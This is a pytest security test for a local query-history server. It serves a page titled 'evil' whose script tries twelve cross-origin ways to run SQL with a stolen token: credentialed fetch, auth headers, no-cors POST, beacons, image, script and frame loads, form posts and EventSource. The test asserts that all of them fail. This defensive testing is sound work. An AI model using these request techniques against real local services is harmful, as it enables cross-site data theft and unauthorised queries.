"""A web page of another origin, in a real browser whose user has typed the history's password or
whose page has got a token by some way.

Expected outcome: the page reads nothing, and no query of it reaches the engine.
"""

from __future__ import annotations

import http.server
import json
import os
import queue
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest

from esper.clock import SystemClock
from tests.attacks.history_victim import Victim
from tests.browsers import CHROMIUM, needs_chromium

QUIET = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run")
OFFLINE = ("--disable-background-networking", "--disable-component-update", "--disable-sync")

PAGE = """<!doctype html><title>evil</title><body><script>
const history = "HISTORY", token = "TOKEN", said = {};
const sql = "/?user=me&password=" + token + "&query=" + encodeURIComponent("SELECT 'stolen'");
async function attempt(name, action) { try { said[name] = String(await action()); } catch (error) { said[name] = "failed: " + error; } }
const text = async (path, options) => (await fetch(history + path, options)).text();
function loaded(kind, address) { return new Promise(done => {
  const made = document.createElement(kind); made.onload = () => done("loaded " + (made.naturalWidth || "")); made.onerror = () => done("refused");
  made.src = address; document.body.append(made); }); }
(async () => {
  await attempt("cors", () => text(sql));
  await attempt("with credentials", () => text(sql, {credentials: "include"}));
  await attempt("bearer", () => text("/?query=SELECT+1", {headers: {Authorization: "Bearer " + token}}));
  await attempt("key", () => text("/?query=SELECT+1", {headers: {"X-ClickHouse-Key": token}}));
  await attempt("opaque", () => text(sql, {mode: "no-cors", credentials: "include"}));
  await attempt("opaque post", () => text(sql, {mode: "no-cors", method: "POST", body: "", credentials: "include"}));
  await attempt("beacon", () => navigator.sendBeacon(history + sql, "") && "");
  await attempt("image", () => loaded("img", history + sql));
  await attempt("script", () => loaded("script", history + sql + "+FORMAT+JSONEachRow"));
  await attempt("frame", async () => { await loaded("iframe", history + sql); return document.querySelector("iframe").contentDocument?.body?.innerText; });
  await attempt("form", () => new Promise(done => { const form = document.createElement("form"); form.method = "POST"; form.action = history + sql;
    const frame = document.createElement("iframe"); frame.name = form.target = "target"; frame.onload = () => setTimeout(() => done("sent"), 300);
    document.body.append(frame, form); form.submit(); }));
  await attempt("event source", () => new Promise(done => { const source = new EventSource(history + sql);
    source.onmessage = event => done(event.data); source.onerror = () => { source.close(); done("refused"); }; }));
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""


@dataclass
class Place:
    """A page on a port of its own, which is an origin of its own, and what it says in the end."""

    address: str
    said: queue.SimpleQueue[dict[str, str]]


@contextmanager
def serving(page: str) -> Iterator[Place]:
    """Serves the page."""
    said: queue.SimpleQueue[dict[str, str]] = queue.SimpleQueue()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(page.encode())

        def do_POST(self) -> None:
            said.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Place(f"http://localhost:{server.server_address[1]}/", said)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def browsing(address: str, profile: Path) -> Iterator[None]:
    """A browser at an address, which ends with the block."""
    assert CHROMIUM is not None
    command = [
        CHROMIUM,
        *QUIET,
        *OFFLINE,
        f"--user-data-dir={profile}",
        "--remote-debugging-port=0",
        address,
    ]
    browser = subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


@needs_chromium
@pytest.mark.parametrize("name", ["localhost", "127.0.0.1"])
def test_a_page_reads_and_asks_nothing(history_victim: Victim, tmp_path: Path, name: str) -> None:
    """Twelve ways in which a page makes a browser ask, from another site and from another port of
    the same one, with a valid token in each.
    """
    history, token = f"http://{name}:{history_victim.port}", history_victim.token()
    history_victim.ran.clear()
    with (
        serving(PAGE.replace("HISTORY", history).replace("TOKEN", token)) as place,
        browsing(place.address, tmp_path / "profile"),
    ):
        said = place.said.get(timeout=90)
    assert len(said) == 12
    assert not [
        way for way, result in said.items() if "stolen" in result or result.startswith("1")
    ], said
    assert history_victim.ran == []


@needs_chromium
def test_a_person_at_the_same_browser_may_ask(history_victim: Victim, tmp_path: Path) -> None:
    """What a person types into the address bar is answered: the refusals above are not for want of
    a working request.
    """
    history_victim.ran.clear()
    address = f"http://127.0.0.1:{history_victim.port}/?user=me&password={history_victim.token()}&query={quote('SELECT 6 * 7')}"
    clock = SystemClock()
    deadline = clock.monotonic() + 90
    with browsing(address, tmp_path / "profile"):
        while "SELECT 6 * 7" not in history_victim.ran:
            assert clock.monotonic() < deadline
            clock.sleep(0.1)
